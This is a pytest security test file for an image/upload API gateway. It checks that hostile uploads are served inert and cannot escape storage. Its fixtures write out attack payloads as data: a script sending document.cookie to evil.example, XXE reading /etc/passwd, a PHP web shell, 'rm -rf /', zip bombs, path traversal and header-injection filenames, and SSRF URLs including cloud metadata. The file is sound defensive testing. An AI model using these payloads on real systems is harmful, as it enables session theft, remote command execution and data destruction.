"""A corpus of hostile uploads: none is served so that anything runs it, and none leaves the store's folder."""

import base64
import gzip
import io
import json
import zipfile
import zlib
from pathlib import Path

import pytest
from tests.support.gateway import PROXY_KEY, openai_node, price
from tests.support.pictures import B64, PNG, draws, openai_images
from tests.support.upstream import answers

SCRIPT = b"<script>fetch('https://evil.example/'+document.cookie)</script>"
SVG = b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>" + SCRIPT + b"</svg>"
PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<<>>\n%%EOF\n"


def _zip(name: str, data: bytes = b"x", also: str = "") -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, data)
        if also:
            archive.writestr(also, "<w/>")
    return packed.getvalue()


def _chunked_png(width: int, height: int) -> bytes:
    """A picture that says that it is huge."""
    head = width.to_bytes(4, "big") + height.to_bytes(4, "big") + b"\x08\x06\0\0\0"
    block = b"IHDR" + head
    return PNG[:8] + (13).to_bytes(4, "big") + block + zlib.crc32(block).to_bytes(4, "big") + PNG[33:]


#: what it is -> its bytes
CORPUS = {
    "svg with script": SVG,
    "svg in utf-16": SVG.decode().encode("utf-16"),
    "svg with a long comment first": b"<!--" + b"x" * 9000 + b"-->" + SVG,
    "html": b"<!doctype html><html><body>" + SCRIPT + b"</body></html>",
    "html after a byte order mark": b"\xef\xbb\xbf<html>" + SCRIPT,
    "html after white space": b"\n" * 5000 + b"<html>" + SCRIPT,
    "xhtml": b"<html xmlns='http://www.w3.org/1999/xhtml'>" + SCRIPT + b"</html>",
    "xml with a style sheet": b"<?xml version='1.0'?><?xml-stylesheet href='https://evil.example/x.xsl'?><a/>",
    "xml with entities": b"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>",
    "javascript": b"alert(document.domain)//",
    "png that is html": PNG + b"<html>" + SCRIPT,
    "gif that is javascript": b"GIF89a=1/*" + bytes(40) + b"*/;alert(1)",
    "jpeg that is html": b"\xff\xd8\xff\xe0<!--" + SCRIPT + b"-->",
    "webp that is html": b"RIFF\x24\0\0\0WEBPVP8 " + SCRIPT,
    "gif that is a zip": b"GIF89a" + bytes(30) + _zip("a.class"),
    "bmp that is javascript": b"BM=1;alert(1)//",
    "pdf with javascript": PDF,
    "pdf that is html": b"%PDF-1.4\n<html>" + SCRIPT,
    "mp3 that is html": b"ID3\x03\0\0\0\0\0\0" + SCRIPT,
    "mp4 that is html": b"\0\0\0\x18ftypisom" + SCRIPT,
    "program": b"MZ\x90\0" + bytes(200),
    "elf": b"\x7fELF\x02\x01\x01" + bytes(200),
    "shell script": b"#!/bin/sh\nrm -rf /\n",
    "php": b"<?php system($_GET['c']); ?>",
    "flash": b"CWS\x0b" + zlib.compress(bytes(1000)),
    "java class": b"\xca\xfe\xba\xbe" + bytes(50),
    "zip bomb": _zip("bomb", bytes(30 * 2**20)),
    "document that is a zip bomb": _zip("word/document.xml", bytes(30 * 2**20)),
    "document with traversal": _zip("../../../../tmp/mira-was-here", b"x", also="word/document.xml"),
    "gzip bomb": gzip.compress(bytes(30 * 2**20)),
    "huge picture": _chunked_png(100_000, 100_000),
    "nested json": b'{"a":' * 5000 + b"1" + b"}" * 5000,
    "zeros": bytes(4096),
    "text with a zero": b"words\0words",
    "control characters": bytes(range(1, 32)),
    "eml": b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + SCRIPT,
    "shortcut": b"[InternetShortcut]\nURL=file:///etc/passwd\n",
    "ico": b"\0\0\1\0" + SCRIPT,
}
NAMES = (
    "../../../../tmp/mira-was-here",
    "..\\..\\mira-was-here.html",
    "/tmp/mira-was-here",
    "C:\\mira-was-here",
    "a.png\0.html",
    "a.svg",
    "a.html;.png",
    "x\r\nset-cookie: a=b",
    '"; filename="evil.html',
    "%2e%2e%2fmira-was-here",
    "\u202egnp.html",
    "CON",
)
DECLARED = ("image/png", "text/plain", "text/html", "image/svg+xml", "application/octet-stream", "text/html\r\nx: y")
#: Types under which a browser, opening the bytes, would run nothing.
INERT = ("image/png", "image/jpeg", "image/gif", "image/webp", "application/pdf", "text/plain", "audio/", "video/",
         "application/vnd.openxmlformats-officedocument.")  # fmt: skip


@pytest.fixture(scope="module")
def gateway(scripted, make_gateway):
    return make_gateway(
        nodes=[openai_node(scripted.url, models=["gpt-image-1"])], prices=[price("openai/gpt-image-1", "5", "40")]
    )


def outside(home: Path) -> set[Path]:
    """Files that nothing but an escape can have made."""
    return {*Path("/tmp").glob("mira-was-here*"), *home.glob("mira-was-here*"), *home.parent.glob("mira-was-here*")}


@pytest.mark.parametrize("kind", CORPUS)
def test_nothing_hostile_is_served_active_or_leaves_the_store(gateway, kind):
    number = list(CORPUS).index(kind)
    taken = []
    for turn, declared in enumerate(DECLARED):
        name = NAMES[(number + turn) % len(NAMES)]
        data = base64.b64encode(CORPUS[kind]).decode()
        told = [
            gateway.post("/v1/upload", {"data": data, "mime_type": declared, "filename": name}),
            gateway.request("POST", "/v1/upload", files={"file": (name, CORPUS[kind], declared.partition("\r")[0])}),
        ]
        assert {answer.status_code for answer in told} <= {201, 400, 415}, [answer.text for answer in told]
        taken += [answer.json()["id"] for answer in told if answer.status_code == 201]
    for file_id in taken:
        back = gateway.get(f"/v1/files/{file_id}")
        assert back.content == CORPUS[kind]
        assert back.headers["content-type"].startswith(INERT), back.headers["content-type"]
        assert back.headers["content-disposition"].startswith("attachment; filename*=UTF-8''")
        assert back.headers["x-content-type-options"] == "nosniff"
        assert back.headers["content-security-policy"] == "sandbox; default-src 'none'"
        assert "set-cookie" not in back.headers
        gateway.request("DELETE", f"/v1/files/{file_id}")
    folder = gateway.home / "files"
    assert {path.parent for path in folder.rglob("*") if path.is_file()} <= {folder}
    assert outside(gateway.home) == set()


@pytest.mark.parametrize("kind", CORPUS)
def test_nothing_hostile_becomes_a_reference_but_a_picture(gateway, upstream, kind):
    upstream.script("gpt-image-1", draws())
    data = base64.b64encode(CORPUS[kind]).decode()
    answer = gateway.post("/v1/image", {"prompt": "x", "image": f"data:image/png;base64,{data}"})
    assert answer.status_code in (200, 415), answer.text
    for request in upstream.chats():
        assert request.form["image"] == CORPUS[kind]
        assert b"content-type: image/" in request.body
    assert float(gateway.balance()["held"]) == 0


@pytest.mark.parametrize("answer", [SVG, CORPUS["html"], b"%", b"", PNG[:20] + SCRIPT])
def test_what_a_node_calls_an_image_is_judged_like_an_upload(gateway, upstream, answer):
    body = openai_images()
    body["data"] = [{"b64_json": base64.b64encode(answer).decode() if answer != b"%" else "%not base64%"}]
    upstream.script("gpt-image-1", answers(body))
    told = gateway.post("/v1/images/generations", {"prompt": "x", "response_format": "url"})
    if told.status_code != 200:
        assert told.status_code == 502
        return
    (image,) = told.json()["data"]
    if "url" in image:
        back = gateway.get("/v1/" + image["url"].partition("/v1/")[2])
        assert back.headers["content-type"].startswith(INERT)
        assert back.headers["content-security-policy"] == "sandbox; default-src 'none'"


@pytest.mark.parametrize(
    "reference",
    [
        "file:///etc/passwd",
        "http://127.0.0.1:1/x.png",
        "http://169.254.169.254/latest/meta-data/",
        "http://[::1]/x.png",
        "gopher://127.0.0.1:6379/_INFO",
        "data:text/html;base64,PGh0bWw+",
        "data:image/png,not-base64",
        "../../../etc/passwd",
        "//evil.example/x.png",
        "",
    ],
)
def test_no_reference_leads_where_it_must_not(gateway, upstream, reference):
    answer = gateway.post("/v1/image", {"prompt": "x", "image": reference})
    assert answer.status_code in (400, 415)
    assert answer.json()["error"]["param"] == "image"
    assert upstream.chats() == []
    assert "root:" not in answer.text


def test_a_form_of_images_is_bounded(gateway, upstream):
    many = [("image[]", ("a.png", PNG, "image/png"))] * 30
    headers = {"authorization": f"Bearer {PROXY_KEY}"}
    answer = gateway.http.post("/v1/images/edits", files=many, data={"prompt": "x"}, headers=headers)
    assert answer.status_code == 400
    fields = {f"f{number}": "x" for number in range(100)}
    form = {"files": {"image": ("a.png", PNG, "image/png")}, "data": {"prompt": "x", **fields}}
    assert gateway.http.post("/v1/images/edits", headers=headers, **form).status_code == 400
    deep = json.dumps({"prompt": "x", "image": B64, "user": "u" * 5000})
    assert gateway.http.post("/v1/image", content=deep, headers=headers).status_code == 400
    assert upstream.chats() == []
